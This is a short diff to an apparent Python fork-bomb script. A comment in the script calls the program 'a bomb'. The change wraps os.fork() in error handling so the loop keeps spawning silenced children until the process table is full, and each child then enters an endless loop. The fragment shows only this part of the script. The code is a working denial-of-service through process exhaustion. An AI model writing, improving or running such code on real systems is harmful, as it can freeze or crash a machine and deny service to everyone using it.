@@ -10,7 +10,11 @@ def silent():
 
 # The program itself ends in the middle of a bomb.
 for _ in range(20):
-    if os.fork() == 0:
+    try:
+        child = os.fork()
+    except OSError:
+        break  # The bomb has taken every process there may be.
+    if child == 0:
         silent()
         while True:
             try:
